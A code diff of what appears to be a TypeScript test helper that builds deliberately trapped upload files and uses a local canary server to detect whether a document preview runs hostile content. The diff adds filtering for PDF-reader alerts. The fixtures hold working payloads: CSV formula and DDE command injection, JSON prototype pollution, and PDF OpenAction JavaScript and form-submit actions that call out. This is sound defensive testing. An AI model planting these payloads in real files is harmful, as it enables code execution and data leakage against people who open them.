@@ -5,6 +5,8 @@ import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { pdf, png, type Upload } from "./files.ts";
 
+const PDF_ALERT = "alert of a PDF";
+
 /** Listens for what hostile content would do: call a function of the page, open a dialog, or ask for an address of the attacker. */
 export class Canary {
   readonly #fired: string[] = [];
@@ -38,9 +40,12 @@ export class Canary {
     });
   }
 
-  /** What fired since the last time it was asked. */
-  fired(): string[] {
-    return this.#fired.splice(0);
+  /**
+   * What fired since the last time it was asked. A browser's own PDF reader may show the alert of a PDF: that runs in the reader, which has
+   * neither page nor network. The portal's preview shows none.
+   */
+  fired({ reader }: { reader?: "of the browser" } = {}): string[] {
+    return this.#fired.splice(0).filter((one) => reader === undefined || one !== `dialog ${PDF_ALERT}`);
   }
 
   async stop(): Promise<void> {
@@ -106,7 +111,7 @@ export function trappedFiles(canary: Canary): Upload[] {
     file("formules.csv", bytes(`naam;bedrag\n=HYPERLINK("${canary.origin}/csv";"klik");=cmd|' /C calc'!A0\n`), "text/csv"),
     file("gegevens.json", bytes(`{"__proto__":{"canary":1},"text":"${markup.replaceAll('"', String.raw`\"`)}"}`), "application/json"),
     file("bericht.eml", bytes(`From: a@klant-a.example\r\nContent-Type: text/html\r\n\r\n${"x ".repeat(600)}${markup}`), "message/rfc822"),
-    trappedPdf("opent.pdf", `/OpenAction << /S /JavaScript /JS (app.alert\\("canary"\\); app.launchURL\\("${canary.origin}/pdf-js"\\);) >> /AA << /WC << /S /JavaScript /JS (app.alert\\("canary"\\)) >> >>`),
+    trappedPdf("opent.pdf", `/OpenAction << /S /JavaScript /JS (app.alert\\("${PDF_ALERT}"\\); app.launchURL\\("${canary.origin}/pdf-js"\\);) >> /AA << /WC << /S /JavaScript /JS (app.alert\\("${PDF_ALERT}"\\)) >> >>`),
     trappedPdf("stuurt.pdf", `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary.origin}/pdf-form) >> >>`),
     trappedPdf("lettertype.pdf", "", [`3 0 obj\n${font}\nendobj\n`]),
   ];
